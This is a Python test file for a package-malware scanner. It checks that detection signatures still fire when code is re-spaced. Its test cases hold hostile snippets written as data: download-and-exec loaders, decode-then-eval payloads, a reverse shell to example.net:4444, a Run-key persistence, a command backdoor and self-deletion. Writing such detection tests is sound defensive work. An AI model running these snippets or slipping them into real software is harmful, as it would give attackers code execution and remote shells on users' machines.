"""Call-shaped signatures match code laid out with blanks the languages allow.

`exec ( __import__ ( "requests" ).get ( url ).text )` is the same program as the compact
spelling, and re-spacing (a formatter, or a mutation made to dodge signatures) must not
take the signature away. Each case is a compact snippet; its spaced twin puts a blank
before every call's parenthesis, inside it and around commas.
"""

from __future__ import annotations

import re

import pytest

from tests.analysis.builders import npm_tarball, sdist
from threatfeed.analysis import Engine
from threatfeed.analysis.signatures import Signatures

# (yara rule, indicator it feeds ("" for a marker), "py" or "js", compact code)
CASES = [
    (
        "python_exec_of_download",
        "executes_code_at_remote_url_rule",
        "py",
        'exec(__import__("requests").get("https://example.net/p.py").text)\n',
    ),
    (
        "python_exec_of_download",
        "executes_code_at_remote_url_rule",
        "py",
        "from urllib.request import urlopen\n"
        'r = urlopen("https://example.net/p.py")\n'
        "exec(r.read())\n",
    ),
    (
        "js_eval_of_download",
        "executes_code_at_remote_url_rule",
        "js",
        'const https = require("https");\n'
        'https.get("https://example.net/p.js", (res) => {\n'
        "  const parts = [];\n"
        '  res.on("data", (c) => parts.push(c));\n'
        '  res.on("end", () => eval(parts.toString()));\n'
        "});\n",
    ),
    (
        "drop_and_run_executable",
        "executes_code_at_remote_url_rule",
        "py",
        "import os\n"
        'r = opener.open("https://example.net/u")\n'
        'open("update.exe", "wb").write(r.read())\n'
        'os.startfile("update.exe")\n',
    ),
    (
        "download_then_run_executable",
        "executes_code_at_remote_url_rule",
        "py",
        "import os\nimport requests\n"
        'r = requests.get("https://example.net/tool.exe")\n'
        "out = target()\n"
        "out.write(r.content)\n"
        "os.startfile(out.name)\n",
    ),
    (
        "python_decode_then_exec",
        "decode_and_execute_rule",
        "py",
        "exec(cipher.decrypt(BLOB))\n",
    ),
    (
        "python_decode_then_exec",
        "decode_and_execute_rule",
        "py",
        'exec("".join(chr(c) for c in CODES))\n',
    ),
    (
        "js_decode_then_eval",
        "decode_and_execute_rule",
        "js",
        'eval(new Buffer(PAYLOAD, "base64").toString());\n',
    ),
    (
        "reverse_shell_python",
        "reverse_shell_rule",
        "py",
        "import os, pty, socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        's.connect(("example.net", 4444))\n'
        "os.dup2(s.fileno(), 0)\n"
        'pty.spawn("/bin/sh")\n',
    ),
    (
        "download_saved_to_autostart",
        "persistence_rule",
        "py",
        'KEY = "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"\n'
        'r = urlopen("https://example.net/a")\n'
        "sink.write(r.read())\n",
    ),
    (
        "command_server_backdoor",
        "reverse_shell_rule",
        "py",
        "import os, socketserver\n"
        'server = socketserver.TCPServer(("", 8000), Handler)\n'
        "os.system(conn.recv(1024).decode())\n",
    ),
    (
        "download_write_and_run",
        "executes_code_at_remote_url_rule",
        "py",
        "import os\n"
        'r = urlopen("https://example.net/a")\n'
        "sink.write(r.read())\n"
        "os.system(command)\n",
    ),
    (
        "js_decode_into_variable_then_run",
        "decode_and_execute_rule",
        "js",
        "var _=Buffer.from('" + "76" * 150 + "','hex').toString();eval(_)\n",
    ),
    (
        "download_write_and_run",
        "executes_code_at_remote_url_rule",
        "py",
        "import os, subprocess, tempfile, urllib.request\n"
        'jar = os.path.join(tempfile.gettempdir(), "JavaUpdater.jar")\n'
        'urllib.request.urlretrieve("https://example.net/u", jar)\n'
        'subprocess.Popen(["java", "-jar", jar])\n',
    ),
    (
        "download_write_and_run",
        "executes_code_at_remote_url_rule",
        "py",
        "import subprocess, sys, urllib.request\n"
        'urllib.request.urlretrieve(url, "/tmp/.cache/u.py")\n'
        'subprocess.Popen([sys.executable, "/tmp/.cache/u.py"], start_new_session=True)\n',
    ),
    (
        "js_eval_of_download",
        "executes_code_at_remote_url_rule",
        "js",
        'const https = require("https"), vm = require("vm");\n'
        'https.get("https://example.net/w.js", (res) => {\n'
        "  let code = '';\n  res.on('data', (c) => (code += c));\n"
        "  res.on('end', () => vm.runInNewContext(code, { require, process }));\n});\n",
    ),
    (
        "native_library_downloaded_and_loaded",
        "executes_code_at_remote_url_rule",
        "js",
        'const fs = require("fs");\n'
        'https.get("https://example.net/a.node", (r) => r.pipe(fs.createWriteStream(p)));\n'
        "process.dlopen(m, p);\n",
    ),
    (
        "download_script_run_with_interpreter",
        "executes_code_at_remote_url_rule",
        "py",
        "import subprocess, sys\n"
        'resp = urlopen("https://example.net/s.py")\n'
        'code = resp.read().decode("utf-8")\n'
        'with open(path, "w") as f:\n'
        "    f.write(code)\n"
        "subprocess.Popen([sys.executable, path])\n",
    ),
    (
        "removes_own_source",
        "obfuscated_code_rule",
        "py",
        "from pathlib import Path\nPath(__file__).resolve().unlink()\n",
    ),
    (
        "python_download_into_variable_then_exec",
        "executes_code_at_remote_url_rule",
        "py",
        'resp = urlopen("https://example.net/p.py")\n'
        "code = resp.read().decode()\n"
        "if code:\n"
        "    exec(code)\n",
    ),
    ("host_fingerprint", "", "py", "import getpass\nwho = getpass.getuser()\n"),
    (
        "host_survey",
        "",
        "py",
        "import os, socket\nfacts = [socket.gethostname(), os.getlogin(), os.getcwd()]\n",
    ),
]


def respace(code: str) -> str:
    """The layout of a formatter that pads calls: `f ( a , b )`, `g ( )`."""
    spaced = re.sub(r"([\w)])\(", r"\1 ( ", code)
    spaced = re.sub(r"\(\s*\)", "( )", spaced)
    return re.sub(r",(?=\S)", " , ", spaced)


def _archive(language: str, code: str) -> bytes:
    if language == "py":
        return sdist({"tidy_strings/module.py": code})
    return npm_tarball({"lib/module.js": code})


@pytest.fixture(scope="module")
def signatures() -> Signatures:
    return Signatures()


@pytest.mark.parametrize(("rule", "indicator", "language", "code"), CASES)
def test_spaced_calls_match_as_compact_ones(
    signatures: Signatures, engine: Engine, rule: str, indicator: str, language: str, code: str
) -> None:
    spaced = respace(code)
    assert spaced != code
    for text in (code, spaced):
        assert rule in {hit.rule for hit in signatures.scan(text.encode())}, text
        if indicator:
            assert indicator in engine.analyze(_archive(language, text)).indicators, text
